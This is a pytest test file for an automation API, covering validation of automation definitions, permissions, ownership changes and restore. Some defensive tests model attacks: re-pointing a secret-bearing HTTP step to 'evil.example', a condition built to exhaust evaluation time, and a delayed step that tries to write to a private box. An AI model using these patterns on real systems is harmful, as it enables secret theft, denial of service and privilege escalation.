"""Automations through the API: creating, changing, switching, permissions and refused definitions."""

import pytest

from tests.api.automations import Rule, do
from tests.conftest import ok, refused

SAY = do("comment.create", message="hi")


def test_an_automation_is_created_changed_switched_and_deleted(world):
    pipeline = world.pipeline()
    rule = Rule(world, pipeline, "box.created", SAY, description="says hi")
    created = rule.created
    assert created["signingSecret"].startswith("whsec_")
    assert (created["enabled"], created["version"], created["ownerKey"]) == (True, 1, world.ada.user_key)
    assert created["steps"] == [{"id": "step1", "type": "comment.create", "with": {"message": "hi"}, "onError": "stop"}]
    listed = ok(world.ada.http.get(f"/api/v2/pipelines/{pipeline['key']}/automations"))["results"]
    assert [automation["key"] for automation in listed] == [rule.key]
    edited = ok(rule.http.post(rule.own, json={"name": "Greets", "condition": 'box.name != "x"'}))
    assert (edited["name"], edited["version"], edited["condition"]) == ("Greets", 2, 'box.name != "x"')
    assert ok(rule.http.post(rule.own, json={"name": "Greets"})) == edited
    off = ok(rule.http.post(f"{rule.own}/disable"))
    assert (off["enabled"], off["offReason"]) == (False, "switched off by hand")
    world.box(pipeline)
    assert rule.runs() == []
    assert "offReason" not in ok(rule.http.post(f"{rule.own}/enable"))
    assert ok(rule.http.post(f"{rule.own}/rotate"))["signingSecret"] != created["signingSecret"]
    assert ok(rule.http.delete(rule.own)) == {"success": True}
    refused(rule.http.get(rule.own), 404)
    assert _events(world)[-7:] == [
        "automation.created",
        "automation.edited",
        "automation.disabled",
        "box.created",
        "automation.enabled",
        "automation.edited",
        "automation.deleted",
    ]


def _events(world):
    sql = "SELECT kind FROM events WHERE team_key = :team ORDER BY id"
    return [row[0] for row in world.server.engine.read(lambda db: db.rows(sql, team=world.team_key))]


def test_the_catalogue_lists_triggers_and_steps(world):
    found = ok(world.cy.http.get("/api/v2/automations/catalogue"))
    triggers = {trigger["type"]: trigger for trigger in found["triggers"]}
    steps = {step["type"]: step for step in found["steps"]}
    assert triggers["box.moved"]["scope"] == "pipeline"
    assert triggers["contact.created"]["scope"] == "team"
    assert triggers["schedule"]["scope"] == "any"
    assert [parameter["name"] for parameter in triggers["box.moved"]["params"]] == ["to", "from"]
    assert {"box.setFields", "http.request", "email.send", "wait", "branch", "stop"} <= steps.keys()
    method = next(item for item in steps["http.request"]["params"] if item["name"] == "method")
    assert method["options"] == ["DELETE", "GET", "PATCH", "POST", "PUT"]
    assert "default" in {item["name"] for item in found["filters"]}
    assert "box" in found["names"]


TREE = {"field": "stage", "op": "is", "value": "5001"}
BAD = [
    ({"trigger": {"type": "box.exploded"}}, "trigger.type"),
    ({"trigger": {"type": "contact.created"}}, "trigger.type"),
    ({"trigger": {"type": "box.moved", "to": ["5009"]}}, "trigger.to"),
    ({"trigger": {"type": "box.moved", "too": ["5001"]}}, "trigger.too"),
    ({"trigger": {"type": "schedule"}}, "trigger.cron"),
    ({"trigger": {"type": "schedule", "cron": "every day"}}, "trigger.cron"),
    ({"trigger": {"type": "schedule", "cron": "0 0 30 2 *"}}, "trigger.cron"),
    ({"trigger": {"type": "schedule", "cron": "* * * * * *"}}, "trigger.cron"),
    ({"trigger": {"type": "schedule", "cron": "* * * * *", "timeZone": "Mars/North"}}, "trigger.timeZone"),
    ({"trigger": {"type": "date.reached", "field": "1001"}}, "trigger.field"),
    ({"trigger": {"type": "box.untouched", "days": 0}}, "trigger.days"),
    ({"trigger": {"type": "webhook", "endpoint": "nope"}}, "trigger.endpoint"),
    ({"trigger": "box.created"}, "trigger"),
    ({"filter": TREE}, "filter.op"),
    ({"condition": "box.name =="}, "condition"),
    ({"condition": "boks.name == 'x'"}, "condition"),
    ({"condition": "size(box.name)"}, "condition"),
    ({"steps": []}, "steps"),
    ({"steps": "x"}, "steps"),
    ({"steps": [1]}, "steps[0]"),
    ({"steps": [{"type": "explode"}]}, "steps[0].type"),
    ({"steps": [do("comment.create")]}, "steps[0].with.message"),
    ({"steps": [do("comment.create", message="x", colour="red")]}, "steps[0].with.colour"),
    ({"steps": [do("comment.create", message="{{ box.fields.Nope }}")]}, "steps[0].with.message"),
    ({"steps": [do("comment.create", message="{{ box.name | shout }}")]}, "steps[0].with.message"),
    ({"steps": [do("comment.create", message="{{ box.name")]}, "steps[0].with.message"),
    (
        {"steps": [do("comment.create", message="{{ steps.later.key }}"), do("box.create", "later", name="x")]},
        "steps[0]",
    ),
    (
        {"steps": [do("comment.create", message="{{ secrets.KEY }}")], "secrets": {"KEY": "x" * 8}},
        "steps[0].with.message",
    ),
    ({"steps": [do("comment.create", message="{{ task.text }}")]}, "steps[0].with.message"),
    ({"steps": [do("box.move", stage="Nowhere")]}, "steps[0].with.stage"),
    ({"steps": [do("box.setFields", fields={"Nope": 1})]}, "steps[0].with.fields.Nope"),
    ({"steps": [do("box.edit")]}, "steps[0].with"),
    ({"steps": [SAY | {"id": "a"}, SAY | {"id": "a"}]}, "steps[1].id"),
    ({"steps": [SAY | {"id": "a b"}]}, "steps[0].id"),
    ({"steps": [SAY | {"onError": "explode"}]}, "steps[0].onError"),
    ({"steps": [SAY | {"then": [SAY]}]}, "steps[0].then"),
    ({"steps": [do("wait")]}, "steps[0].with"),
    ({"steps": [do("wait", amount=1000, unit="days")]}, "steps[0].with.amount"),
    ({"steps": [do("wait", amount=1, unit="eons")]}, "steps[0].with.unit"),
    ({"steps": [do("branch")]}, "steps[0].with"),
    ({"steps": [do("branch", condition="1 +")]}, "steps[0].with.condition"),
    ({"steps": [{**do("branch", filter=TREE), "then": [SAY]}]}, "steps[0].with.filter.op"),
    ({"steps": [{**do("branch", condition="true"), "then": [do("box.move")]}]}, "steps[0].then[0].with.stage"),
    ({"steps": [do("http.request", url="ftp://x.example")]}, "steps[0].with.url"),
    (
        {"steps": [do("http.request", url="https://x.example/{{ secrets.K }}")], "secrets": {"K": "long-enough"}},
        "steps[0].with.url",
    ),
    ({"steps": [do("http.request", url="https://x.example", method="BREW")]}, "steps[0].with.method"),
    ({"steps": [do("http.request", url="https://x.example", headers={"Host": "y"})]}, "steps[0].with.headers"),
    ({"steps": [do("http.request", url="https://x.example", headers={"Webhook-Id": "y"})]}, "steps[0].with.headers"),
    (
        {"steps": [do("http.request", url="https://x.example", headers={"A": "{{ secrets.K }}"})]},
        "steps[0].with.headers.A",
    ),
    ({"steps": [do("http.request", url="https://x.example", json={}, text="x")]}, "steps[0].with"),
    ({"steps": [do("http.request", url="https://x.example", attempts=12)]}, "steps[0].with.attempts"),
    ({"steps": [do("task.create", text="x", dueIn={"amount": "two"})]}, "steps[0].with.dueIn"),
    ({"steps": [SAY] * 101}, "steps[100]"),
    ({"secrets": {"a b": "x"}}, "secrets.a b"),
    ({"secrets": {"a": 5}}, "secrets.a"),
    ({"secrets": {"a": "7 chars"}}, "secrets.a"),
    ({"secrets": {"a": "         "}}, "secrets.a"),
    (
        {
            "steps": [do("http.request", url="https://x.example", query={"k": "{{ secrets.K }}"})],
            "secrets": {"K": "long-enough"},
        },
        "steps[0].with.query",
    ),
    *(
        (
            {
                "steps": [
                    do("http.request", url="https://x.example", json={"a": [{"b": f"{{{{ secrets.K | {name} }}}}"}]})
                ],
                "secrets": {"K": "long-enough"},
            },
            "steps[0].with.json",
        )
        for name in ("truncate(3)", "first", "last", "length", "split", "upper | number", "json | date")
    ),
    ({"name": ""}, "name"),
    ({"condition": 'fields["Sise"] > 1'}, "condition"),
    ({"condition": "box.fields.Sise > 1"}, "condition"),
    ({"steps": [do("box.create", name="x", pipeline="nope")]}, "steps[0].with.pipeline"),
    ({"steps": [do("box.create", name="x", stage="Nowhere")]}, "steps[0].with.stage"),
    ({"steps": [do("box.create", name="x", fields={"Nope": 1})]}, "steps[0].with.fields.Nope"),
    ({"steps": [do("box.findOrCreate", name="x", match="Nope")]}, "steps[0].with.match"),
    ({"steps": [do("automation.run", automation="nope")]}, "steps[0].with.automation"),
]


@pytest.mark.parametrize(("given", "field"), BAD)
def test_an_invalid_definition_is_refused_and_its_member_named(world, given, field):
    pipeline = world.pipeline()
    body = {"name": "R", "trigger": {"type": "box.created"}, "steps": [SAY], **given}
    answer = world.ada.http.post(f"/api/v2/pipelines/{pipeline['key']}/automations", json=body)
    assert answer.status_code == 400, answer.text
    assert answer.json()["field"].startswith(field), answer.text
    assert ok(world.ada.http.get(f"/api/v2/pipelines/{pipeline['key']}/automations"))["results"] == []


def test_steps_that_need_a_box_are_refused_without_a_box(world):
    body = {"name": "R", "trigger": {"type": "contact.created"}, "steps": [SAY]}
    refused(world.ada.http.post(f"/api/v2/teams/{world.team_key}/automations", json=body), 400, "steps[0].with.box")
    body["steps"] = [do("comment.create", message="x", box="{{ body.box }}")]
    ok(world.ada.http.post(f"/api/v2/teams/{world.team_key}/automations", json=body))


def test_who_may_see_and_change_automations(world):
    pipeline = world.pipeline()
    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret-1"})
    other = f"/api/v2/pipelines/{pipeline['key']}/automations"
    refused(world.cy.http.get(rule.own), 404)
    refused(world.cy.http.get(other), 404)
    refused(world.cy.http.post(f"{rule.own}/runs", json={}), 404)
    assert ok(world.bo.http.get(rule.own))["secrets"] == ["KEY"]
    view = {"defaultPermissionSetName": "__viewAllPermissionSet__"}
    ok(world.ada.http.post(f"/api/v2/pipelines/{pipeline['key']}", json=view))
    assert [automation["key"] for automation in ok(world.bo.http.get(other))["results"]] == [rule.key]
    refused(world.bo.http.post(rule.own, json={"name": "Mine"}), 403)
    refused(world.bo.http.post(f"{rule.own}/disable"), 403)
    refused(world.bo.http.post(f"{rule.own}/test", json={"boxKey": world.box(pipeline)["key"]}), 403)
    refused(world.bo.http.post(other, json={"name": "R", "trigger": {"type": "manual"}, "steps": [SAY]}), 403)
    watch = {"defaultPermissionSetName": "__viewAssignedPermissionSet__"}
    ok(world.ada.http.post(f"/api/v2/pipelines/{pipeline['key']}", json=watch))
    refused(world.bo.http.get(rule.own), 404)
    assert ok(world.bo.http.get(other))["results"] == []


def test_the_user_who_changes_the_steps_becomes_the_owner_without_the_secrets(world):
    pipeline = world.pipeline()
    send = do("http.request", url="https://example.com/", headers={"K": "{{ secrets.KEY }}"})
    rule = Rule(world, pipeline, "box.created", send, secrets={"KEY": "s3cret-1"})
    assert ok(world.bo.http.post(rule.own, json={"name": "Renamed"}))["ownerKey"] == world.ada.user_key
    assert ok(world.bo.http.post(f"{rule.own}/disable"))["ownerKey"] == world.ada.user_key
    stolen = {**send, "with": {**send["with"], "url": "https://evil.example/"}}
    refused(world.bo.http.post(rule.own, json={"steps": [stolen]}), 400, "secrets")
    changed = ok(world.bo.http.post(rule.own, json={"steps": [stolen], "secrets": {"KEY": "own-secret"}}))
    assert (changed["ownerKey"], changed["secrets"]) == (world.bo.user_key, ["KEY"])


def test_a_deleted_automation_is_restored_switched_off_and_a_change_is_undone(world):
    pipeline = world.pipeline()
    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret-1"})
    ok(rule.http.delete(rule.own))
    (trashed,) = ok(world.ada.http.get("/api/v2/trash", params={"noun": "automation"}))["results"]
    ok(world.ada.http.post(f"/api/v2/trash/{trashed['key']}/restore"))
    back = ok(rule.http.get(rule.own))
    assert (back["enabled"], back["offReason"]) == (False, "it was deleted and restored")
    assert (back["steps"], back["secrets"]) == (rule.created["steps"], ["KEY"])
    ok(rule.http.post(f"{rule.own}/enable"))
    world.box(pipeline)
    run = rule.only()
    history = ok(world.ada.http.get(f"/api/v2/boxes/{run['boxKey']}/history"))["results"]
    assert history[0]["via"] == {"type": "automation", "key": rule.key, "name": "Rule"}


def test_the_automations_of_a_leaving_member_go_to_the_successor(world):
    pipeline = world.pipeline()
    rule = Rule(world, pipeline, "box.created", SAY, person=world.bo)
    ok(world.ada.http.post(f"/api/v2/teams/{world.team_key}/members/{world.bo.user_key}/leave"))
    rule.http = world.ada.http
    passed = ok(rule.http.get(rule.own))
    assert (passed["ownerKey"], passed["enabled"]) == (world.ada.user_key, False)
    assert "owner left" in passed["offReason"]
    ok(rule.http.post(f"{rule.own}/enable"))
    world.box(pipeline)
    rule.only()


def test_a_condition_that_runs_too_long_switches_the_automation_off(world):
    pipeline = world.pipeline()
    bomb = 'box.notes.replace("a", box.notes).replace("a", box.notes) == ""'
    rule = Rule(world, pipeline, "box.created", SAY, condition=bomb)
    world.box(pipeline, notes="a" * 50_000)
    assert "cannot be evaluated: it takes too" in rule.only("SKIPPED")["reason"]
    now = ok(rule.http.get(rule.own))
    assert (now["enabled"], now["offReason"][:24]) == (False, "a condition was stopped:")


def test_a_run_acts_until_its_end_as_the_owner_at_its_start(world):
    """Otherwise a user could leave steps waiting that later run with the rights of a user who edits the automation."""
    pipeline, private = (
        world.pipeline(),
        world.pipeline(teamKey=world.team_key, defaultPermissionSetName="__noAccessPermissionSet__"),
    )
    secret = world.box(private)
    wait, steal = do("wait", amount=1, unit="days"), do("comment.create", message="got in", box=secret["key"])
    rule = Rule(world, pipeline, "box.created", wait, steal, person=world.bo)
    world.box(pipeline)
    rule.waiting()
    assert ok(world.ada.http.post(rule.own, json={"steps": [SAY]}))["ownerKey"] == world.ada.user_key
    world.clock.advance(days=1.1)
    rule.http = world.ada.http
    assert f"nothing is found with key {secret['key']}" in rule.only("FAILED")["reason"]
    assert ok(world.ada.http.get(f"/api/v2/boxes/{secret['key']}/comments"))["results"] == []
    listed = ok(world.ada.http.get(f"/api/v2/pipelines/{pipeline['key']}/automations"))["results"]
    assert listed[0]["lastRun"]["state"] == "FAILED"
